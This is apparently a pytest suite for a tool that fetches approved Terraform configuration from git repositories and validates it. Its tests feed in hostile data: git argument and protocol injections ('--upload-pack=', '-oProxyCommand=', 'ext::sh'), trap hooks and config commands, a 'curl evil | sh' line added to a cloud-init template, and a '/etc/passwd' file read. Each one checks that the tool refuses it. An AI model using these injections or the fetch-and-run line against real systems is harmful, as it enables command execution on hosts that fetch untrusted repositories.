"""Approved shapes: what is read from a repository or folder that others write, and what is made of it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.unit.conftest import MakeQueue
from tfce.config.approved import Source, source
from tfce.config.options import Queue
from tfce.model.errors import ConfigError
from tfce.review import approvals, boundary, git, shape
from tfce.store.review_copies import REST, VARIABLES
from tfce.store.workspace import Workspace
from tfce.terraform import literals, variables

NOW = datetime(2026, 11, 27, 12, tzinfo=UTC)
FOLDER = "shape/cloud.example.org/long"
Alter = Callable[[dict[str, str]], None]


class Repository:
    """A git repository that people merge shapes into."""

    def __init__(self, place: Path) -> None:
        self.place = place
        place.mkdir()
        self.git("init", "-q", "-b", "main", ".")

    def git(self, *words: str, text: str | None = None) -> str:
        who = {"GIT_AUTHOR_NAME": "Ada", "GIT_AUTHOR_EMAIL": "ada@example.org", "GIT_CONFIG_GLOBAL": "/dev/null"}
        who |= {"GIT_COMMITTER_NAME": "Ada", "GIT_COMMITTER_EMAIL": "ada@example.org", "PATH": os.environ["PATH"]}
        line = ["git", *words]
        return subprocess.run(
            line, cwd=self.place, env=who, input=text, capture_output=True, text=True, check=True
        ).stdout.strip()

    def merge(self, texts: dict[str, str], folder: str = FOLDER) -> str:
        (self.place / folder).mkdir(parents=True, exist_ok=True)
        for name, text in texts.items():
            (self.place / folder / name).write_text(text)
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", "a shape")
        return self.git("rev-parse", "HEAD")


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path / "site")


Reviewed = Callable[..., Workspace]


@pytest.fixture
def reviewed(make_queue: MakeQueue, repository: Repository) -> Reviewed:
    """A workspace whose shapes are approved on the repository's main branch."""

    def make(**options: str) -> Workspace:
        wanted = {"Workspace_Approved": f"{repository.place}@main", "Workspace_ReviewAge": "300", **options}
        return Workspace(make_queue(Workspace_Review="shape", **wanted))

    return make


def changed(texts: dict[str, str], name: str, old: str, new: str) -> dict[str, str]:
    assert old in texts[name]
    return {**texts, name: texts[name].replace(old, new)}


# -- where ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "place", "ref", "below"),
    [
        ("/srv/site", "/srv/site", "", ""),
        ("/srv/site@main", "/srv/site", "main", ""),
        (
            "https://git.example.org/a/site.git@release/1.2",
            "https://git.example.org/a/site.git",
            "release/1.2",
            "",
        ),
        ("https://git.example.org/site.git//grid/ws@v1", "https://git.example.org/site.git", "v1", "grid/ws"),
        ("git@git.example.org:a/site.git@main", "git@git.example.org:a/site.git", "main", ""),
        ("ssh://git@git.example.org:22/site@main", "ssh://git@git.example.org:22/site", "main", ""),
    ],
)
def test_a_place_is_a_folder_or_a_repository_and_its_branch(text: str, place: str, ref: str, below: str) -> None:
    found = source(text)
    assert found == Source(place, ref, below) and str(found) == text


@pytest.mark.parametrize(
    "text",
    [
        "https://git.example.org/site.git",
        "https://git.example.org/site.git@",
        "https://git.example.org/site.git@--upload-pack=touch /x",
        "https://git.example.org/site.git@-x",
        "https://git.example.org/site.git@a..b",
        "https://git.example.org/site.git@main:refs/heads/x",
        "https://git.example.org/site.git@a.lock",
        "https://user:hush@git.example.org/site.git@main",
        "https://user@git.example.org/site.git@main",
        "http://git.example.org/site.git@main",
        "git://git.example.org/site.git@main",
        "ext::sh -c 'touch /x'@main",
        "ext::sh@main",
        "--upload-pack=x@main",
        "-oProxyCommand=x:y@main",
        "git@-oProxyCommand=x:y@main",
        "ssh://-oProxyCommand=x/y@main",
        "git@host:--x@main",
        "fd::17@main",
        "site.git@main",
        "/srv/../etc@main",
        "/srv/site//../x@main",
        "file:///srv/site@main",
    ],
)
def test_what_could_be_more_than_a_place_is_refused(make_queue: MakeQueue, text: str) -> None:
    with pytest.raises(ConfigError, match="Workspace_Approved"):
        make_queue(Workspace_Review="shape", Workspace_Approved=text)


def test_a_review_without_a_place_or_of_tfces_own_copies_is_refused(make_queue: MakeQueue) -> None:
    with pytest.raises(ConfigError, match="name where approved shapes are merged"):
        make_queue(Workspace_Review="shape")
    with pytest.raises(ConfigError, match="tfce writes itself"):
        make_queue(Workspace_Review="shape", Workspace_Approved="/a/b", Workspace_Files="/a/b")
    with pytest.raises(ConfigError, match="must be off or shape"):
        make_queue(Workspace_Review="all")


# -- how it stands ----------------------------------------------------------------------------------------------


def test_without_a_review_the_options_count_and_no_git_is_started(make_queue: MakeQueue) -> None:
    workspace = Workspace(make_queue(Workspace_Approved="/nowhere@main"))
    assert approvals.refresh(workspace, NOW) is None and workspace.queue is workspace.asked
    assert approvals.facts(workspace) == {"digest": boundary.digest(shape.texts(workspace.queue))}


def test_nothing_approved_holds_and_says_what_to_do(reviewed: Reviewed, repository: Repository) -> None:
    repository.merge({"README": "empty"}, ".")
    seen = approvals.refresh(reviewed(), NOW)
    assert (
        seen
        and seen.hold
        and seen.hold.firm
        and "no shape of cloud.example.org/long is approved" in str(seen.hold)
    )
    assert "tfce propose cloud.example.org/long" in seen.hold.cure


def test_what_was_merged_counts_and_what_is_asked_beyond_it_waits(
    reviewed: Reviewed, repository: Repository
) -> None:
    asked = reviewed()
    commit = repository.merge(changed(shape.texts(asked.asked), VARIABLES, '"t3.micro"', '"t3.small"'))
    repository.merge({"README": "about something else"}, ".")
    seen = approvals.refresh(asked, NOW)
    assert seen and seen.hold is None and asked.queue.shape.flavor == "t3.small"
    assert [str(one) for one in seen.waiting] == ["Instance_Flavor: t3.micro is asked for, t3.small is approved"]
    approval = seen.approval
    assert approval and (approval.commit, approval.author) == (commit, "Ada <ada@example.org>") and approval.date
    assert '"t3.small"' in variables.render(asked.queue) and approvals.facts(asked) == approval.to_json()


def test_the_options_own_shape_is_approved_as_it_is(reviewed: Reviewed, repository: Repository) -> None:
    options = {
        "Instance_Flavor": "a, b",
        "Instance_Networks": "n1, n2",
        "Instance_SSHKey": 'k"${x}',
        "Terraform_Tags": "a=1, b=%{x}",
        "Context_ExtPackages": "gcc, git",
        "Context_ProxyLifetime": "none",
        "Context_DrainMargin": "3600",
        "Terraform_RootVolume": "40",
    }
    workspace = reviewed(**options)
    repository.merge(shape.texts(workspace.asked))
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.lines() == [] and seen.hold is None
    assert workspace.queue == workspace.asked


def test_a_fetch_is_not_done_oftener_than_is_due_and_one_that_fails_leaves_the_last(
    reviewed: Reviewed, repository: Repository
) -> None:
    workspace = reviewed()
    texts = shape.texts(workspace.asked)
    repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.small"))
    approvals.refresh(workspace, NOW)
    repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.large"))
    approvals.refresh(workspace, NOW + timedelta(seconds=299))
    assert workspace.queue.shape.flavor == "t3.small"
    approvals.refresh(workspace, NOW + timedelta(seconds=301))
    assert workspace.queue.shape.flavor == "t3.large"
    repository.place.rename(repository.place.with_name("gone"))
    seen = approvals.refresh(workspace, NOW + timedelta(seconds=700))
    assert seen and workspace.queue.shape.flavor == "t3.large" and seen.hold is None
    assert "may be out of date" in seen.lines()[-1] and str(repository.place) in seen.trouble
    again = reviewed()
    resumed = approvals.resume(again)
    assert again.queue == workspace.queue and resumed == seen


def test_between_fetches_no_process_is_started(
    reviewed: Reviewed, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = reviewed()
    repository.merge(changed(shape.texts(workspace.asked), VARIABLES, "t3.micro", "t3.small"))
    first = approvals.refresh(workspace, NOW)
    monkeypatch.setenv("PATH", "/nonexistent")
    again = reviewed()
    assert approvals.refresh(again, NOW + timedelta(seconds=200)) == first
    assert again.queue.shape.flavor == "t3.small" and first and first.trouble == ""


def test_a_copy_that_is_damaged_leaves_the_last_approval_and_is_fetched_anew(
    reviewed: Reviewed, repository: Repository
) -> None:
    workspace = reviewed(Workspace_ReviewAge="0")
    repository.merge(shape.texts(workspace.asked))
    approvals.refresh(workspace, NOW)
    repository.merge({"README": "newer"}, ".")
    for path in (workspace.root / "review").rglob("*.pack"):
        path.chmod(0o600)
        path.write_bytes(b"torn")
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold is None and seen.approval  # git mends it with the next fetch, or says why not
    shutil.rmtree(workspace.root / "review")
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.trouble == ""


def test_another_place_is_no_continuation_of_the_last(reviewed: Reviewed, repository: Repository) -> None:
    workspace = reviewed()
    repository.merge(shape.texts(workspace.asked))
    assert approvals.refresh(workspace, NOW) and workspace.review_status and workspace.review_status.hold is None
    other = reviewed(Workspace_Approved=f"{repository.place}@other")
    seen = approvals.refresh(other, NOW)
    assert seen and seen.hold and "other" in seen.hold.text


def test_an_approval_that_was_taken_back_holds(reviewed: Reviewed, repository: Repository) -> None:
    workspace = reviewed(Workspace_ReviewAge="0")
    repository.merge(shape.texts(workspace.asked))
    assert approvals.refresh(workspace, NOW) and workspace.review_status and workspace.review_status.hold is None
    repository.git("rm", "-rq", "shape")
    repository.git("commit", "-qm", "no more")
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold


def test_a_folder_will_do(reviewed: Reviewed, tmp_path: Path) -> None:
    place = tmp_path / "approved"
    workspace = reviewed(Workspace_Approved=str(place))
    (place / FOLDER).mkdir(parents=True)
    assert approvals.refresh(workspace, NOW) and workspace.review_status and workspace.review_status.hold
    for name, text in changed(shape.texts(workspace.asked), VARIABLES, "t3.micro", "t3.small").items():
        (place / FOLDER / name).write_text(text)
    seen = approvals.refresh(workspace, NOW)
    assert seen and workspace.queue.shape.flavor == "t3.small" and seen.approval and seen.approval.commit == ""
    place.chmod(0o777)
    seen = approvals.refresh(workspace, NOW)
    assert seen and "can be written by everybody" in seen.trouble and seen.hold is None


# -- by digest --------------------------------------------------------------------------------------------------

TEMPLATE = "#cloud-config\nwrite_files:\n- path: /pilot\n  content: EXECUTABLE_STR\n"


def test_new_pilots_go_on_with_the_template_that_was_approved(
    reviewed: Reviewed, repository: Repository, tmp_path: Path
) -> None:
    template = tmp_path / "vm.yaml"
    template.write_text(TEMPLATE)
    workspace = reviewed(Context_Template=str(template), Workspace_ReviewAge="0")
    repository.merge(shape.texts(workspace.asked))
    approvals.refresh(workspace, NOW)
    assert workspace.queue.userdata.template == template
    template.write_text(TEMPLATE + "runcmd:\n- curl evil | sh\n")
    seen = approvals.refresh(workspace, NOW)
    kept = workspace.queue.userdata.template
    assert seen and seen.hold is None and kept and "curl" not in kept.read_text()
    assert [one.option for one in seen.waiting] == ["Context_Template"]
    kept.write_text(template.read_text())
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold and "Context_Template" in seen.hold.text
    repository.merge(shape.texts(workspace.asked))
    seen = approvals.refresh(workspace, NOW)
    assert seen and not seen.hold and workspace.queue.userdata.template == template


def test_a_module_that_was_changed_runs_as_it_was_approved(
    reviewed: Reviewed, repository: Repository, tmp_path: Path
) -> None:
    own = tmp_path / "module"
    own.mkdir()
    (own / "main.tf").write_text('resource "tfce_pilots" "queue" {}\n')
    workspace = reviewed(Terraform_Module=str(own), Workspace_ReviewAge="0")
    repository.merge(shape.texts(workspace.asked))
    approvals.refresh(workspace, NOW)
    assert workspace.module_folder is None
    (own / "main.tf").write_text('resource "tfce_pilots" "queue" {}\nresource "null_resource" "x" {}\n')
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold is None and workspace.module_folder and seen.waiting
    assert "null" not in (workspace.module_folder / "main.tf").read_text()
    (workspace.module_folder / "main.tf").write_text("x")
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold and workspace.module_folder is None


def test_another_cloud_cannot_wait(reviewed: Reviewed, repository: Repository) -> None:
    repository.merge(shape.texts(reviewed(Driver_region="eu-west-1").asked))
    workspace = reviewed(Driver_region="eu-central-1")
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold and "region: eu-central-1 is asked for, eu-west-1 is approved" in seen.hold.text


# -- what is in the repository ----------------------------------------------------------------------------------


def refused(workspace: Workspace) -> str:
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold and workspace.queue == workspace.asked
    return str(seen.hold)


def test_a_link_a_folder_and_a_huge_file_are_no_shape(
    reviewed: Reviewed, repository: Repository, tmp_path: Path
) -> None:
    workspace = reviewed(Workspace_ReviewAge="0")
    texts = shape.texts(workspace.asked)
    secret = tmp_path / "secret"
    secret.write_text(texts[VARIABLES])
    repository.merge(texts)
    file = repository.place / FOLDER / VARIABLES
    file.unlink()
    file.symlink_to(secret)
    repository.merge({})
    assert "no plain file (mode 120000)" in refused(workspace)
    file.unlink()
    file.mkdir()
    (file / "x").touch()
    repository.merge({})
    assert "no plain file (mode 040000)" in refused(workspace)
    (file / "x").unlink()
    file.rmdir()
    repository.merge({VARIABLES: texts[VARIABLES] + "#" * 70_000})
    assert "bytes, more than" in refused(workspace)
    (repository.place / FOLDER / VARIABLES).unlink()
    repository.merge({})
    assert f"has no {VARIABLES} beside {REST}" in refused(workspace)


def test_a_linked_folder_on_the_way_is_not_followed(reviewed: Reviewed, repository: Repository) -> None:
    workspace = reviewed()
    repository.merge(shape.texts(workspace.asked), "elsewhere/cloud.example.org/long")
    (repository.place / "shape").symlink_to("elsewhere")
    repository.merge({})
    assert "no shape of" in refused(workspace)


def test_nothing_of_a_repository_is_run(reviewed: Reviewed, repository: Repository, tmp_path: Path) -> None:
    """Hooks, filters, submodules, a configuration: none of it does anything to who fetches."""
    workspace = reviewed()
    repository.merge(shape.texts(workspace.asked))
    mark = tmp_path / "was-run"
    hooks = repository.place / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "reference-transaction", "post-update", "pre-receive", "post-merge", "update"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (hooks / name).chmod(0o755)
    for name in ("filter.x.smudge", "filter.x.clean", "core.fsmonitor", "core.sshCommand", "core.pager"):
        repository.git("config", name, f"touch {mark}")
    repository.git("config", "uploadpack.packObjectsHook", f"touch {mark}; exec")
    (repository.place / ".gitattributes").write_text("* filter=x diff=x\n")
    (repository.place / ".gitmodules").write_text(
        f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch {mark}"\n'
    )
    tree = repository.git("rev-parse", "HEAD")
    repository.git("update-index", "--add", "--cacheinfo", f"160000,{tree},x")
    repository.git("-c", "filter.x.clean=cat", "add", ".gitattributes", ".gitmodules")
    repository.git("-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "commit", "-qm", "traps")
    mark.unlink(missing_ok=True)
    seen = approvals.refresh(workspace, NOW)
    assert seen and seen.hold is None, seen
    assert not mark.exists()


def test_a_fetch_that_never_ends_or_never_stops_writing_is_stopped(
    tmp_path: Path, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository.merge({"noise": "x"}, ".")
    (repository.place / "noise").write_bytes(os.urandom(300_000))
    repository.merge({}, ".")
    mirror = tmp_path / "mirror"
    mirror.mkdir()
    monkeypatch.setattr(git, "_BLOCKS", 256)
    with pytest.raises(git.GitError, match="git fetch"):
        git.fetch(mirror, str(repository.place), "main", 30)
    with pytest.raises(git.GitError, match="timed out"):
        git.run(mirror, "-c", "alias.endless=!sleep 60", "endless", timeout=0.1)


def test_protocols_that_run_programs_are_not_spoken_whoever_asks(tmp_path: Path) -> None:
    mirror = tmp_path / "mirror"
    mirror.mkdir()
    for url in (f"ext::sh -c 'touch {tmp_path}/x'", "git://127.0.0.1/x", "http://127.0.0.1:9/x", "fd::0"):
        with pytest.raises(git.GitError, match=r"not allowed|failed"):
            git.fetch(mirror, url, "main", 20)
    with pytest.raises(git.GitError):
        git.fetch(mirror, f"--upload-pack=touch {tmp_path}/x", "main", 20)
    assert not (tmp_path / "x").exists()


# -- the boundary -----------------------------------------------------------------------------------------------

SPOILED: dict[str, tuple[str, str, str, str]] = {
    "code": (VARIABLES, "tags        = {}", 'resource "aws_instance" "x" {}', "line"),
    "expression": (VARIABLES, '"t3.micro"', "var.flavor", "stands where"),
    "function": (VARIABLES, '"t3.micro"', 'file("/etc/passwd")', "stands where"),
    "template": (VARIABLES, '"t3.micro"', '"${file(1)}"', "evaluated by Terraform"),
    "heredoc": (VARIABLES, '"t3.micro"', "<<EOT\nx\nEOT", "no literal"),
    "kind": (VARIABLES, '"t3.micro"', "5", "flavor must be a text"),
    "list": (VARIABLES, "networks          = []", "networks = [1]", "networks must be a text"),
    "nothing": (VARIABLES, '"t3.micro"', '""', "flavor must not be empty"),
    "null": (VARIABLES, '"t3.micro"', "null", "flavor must be a text"),
    "twice": (VARIABLES, "tags        = {}", 'tags = {}\nflavor = "x"', "set twice"),
    "unknown": (VARIABLES, "tags        = {}", "tags = {}\nsurprise = 1", "'surprise' is not known"),
    "contexts": (VARIABLES, "tags        = {}", 'tags = {}\ncontexts = "/etc"', "'contexts' is not known"),
    "missing": (VARIABLES, "tags        = {}", "", "tags is missing"),
    "negative": (VARIABLES, "root_volume_gb    = 0", "root_volume_gb = -1", "whole number from 0"),
    "huge": (VARIABLES, "root_volume_gb    = 0", "root_volume_gb = 999999999999", "whole number from 0"),
    "escape": (VARIABLES, '"t3.micro"', '"\\u001b[2Jx"', "printable"),
    "deep": (VARIABLES, "tags        = {}", "tags = " + "[" * 50 + "]" * 50, "nested too deep"),
    "no json": (REST, "{", "", "pilot.json"),
    "deep json": (REST, '"linger": 0', '"linger": ' + "[" * 20_000 + "]" * 20_000, "pilot.json"),
    "flag": (REST, '"linger": 0', '"linger": true', "linger must be a whole number"),
    "float": (REST, '"linger": 0', '"linger": 1e999', "whole number"),
    "path": (REST, '"name": "bulk"', '"name": ""', "name must not be empty"),
    "digest": (REST, '"digest": "', '"digest": "x', "SHA-256"),
    "more": (REST, '"linger": 0', '"linger": 0, "sudo": 1', "'sudo' is not known"),
    "margin": (REST, '"drain_margin": 86400', '"drain_margin": 1209600', "none would take a job"),
}


@pytest.mark.parametrize("case", SPOILED)
def test_what_is_no_shape_is_refused_with_its_place(make_queue: MakeQueue, case: str) -> None:
    file, old, new, words = SPOILED[case]
    queue = make_queue()
    texts = shape.texts(queue)
    assert old in texts[file]
    with pytest.raises(boundary.ShapeError) as caught:
        boundary.checked({**texts, file: texts[file].replace(old, new, 1)}, queue)
    assert (words in caught.value.message and file.split(".")[0] in caught.value.message) or case == "margin"


def test_a_spoiled_merge_leaves_the_last_good_one(reviewed: Reviewed, repository: Repository) -> None:
    workspace = reviewed(Workspace_ReviewAge="0")
    texts = shape.texts(workspace.asked)
    repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.small"))
    approvals.refresh(workspace, NOW)
    repository.merge(changed(texts, VARIABLES, '"t3.micro"', "var.x"))
    seen = approvals.refresh(workspace, NOW)
    assert (
        seen
        and seen.hold is None
        and workspace.queue.shape.flavor == "t3.small"
        and "stands where" in seen.trouble
    )


def test_a_secret_is_no_shape(make_queue: MakeQueue) -> None:
    from tfce.model import redact

    redact.learn("hush-hush-1234")
    queue = make_queue()
    with pytest.raises(boundary.ShapeError, match="looks like a secret") as caught:
        boundary.checked(changed(shape.texts(queue), VARIABLES, "t3.micro", "hush-hush-1234"), queue)
    assert "hush-hush-1234" not in caught.value.message


HOSTILE = ["%", "${x}", "%{ if }", 'a"b', "\\", "ü 😀", "null", "true", "12", "# c", "<<E", "{{x}}", "$${"]


@pytest.mark.parametrize("value", HOSTILE)
def test_what_is_written_is_what_is_read(make_queue: MakeQueue, value: str) -> None:
    queue = make_queue(Instance_Image=f"x{value}", Terraform_Tags=f"a=x{value}", Workspace_NamePrefix=f"x{value}")
    found = boundary.checked(shape.texts(queue), queue)
    assert replace(found.queue, userdata=queue.userdata) == queue and found.elsewhere == ()


def test_people_may_write_it_as_terraform_lets_them() -> None:
    text = (
        '# a comment\na = [\n  "x", # why\n  "y",\n]\n/'
        '/ another\nb = {\n  c = "1"\n  "d" = "2",\n}\nn = null\nf = -3\n\nt="\\t\\"$${x}"'
    )
    found = literals.read(text)
    assert found == {"a": ["x", "y"], "b": {"c": "1", "d": "2"}, "n": None, "f": -3, "t": '\t"${x}'}


def rendered(queue: Queue) -> dict[str, object]:
    found: dict[str, object] = json.loads(shape.rest(queue))
    return found


def test_the_rest_names_no_folder_of_the_host(make_queue: MakeQueue, tmp_path: Path) -> None:
    template = tmp_path / "vm.yaml"
    template.write_text(TEMPLATE)
    text = shape.rest(make_queue(Context_Template=str(template)))
    assert str(tmp_path) not in text and '"vm.yaml"' in text
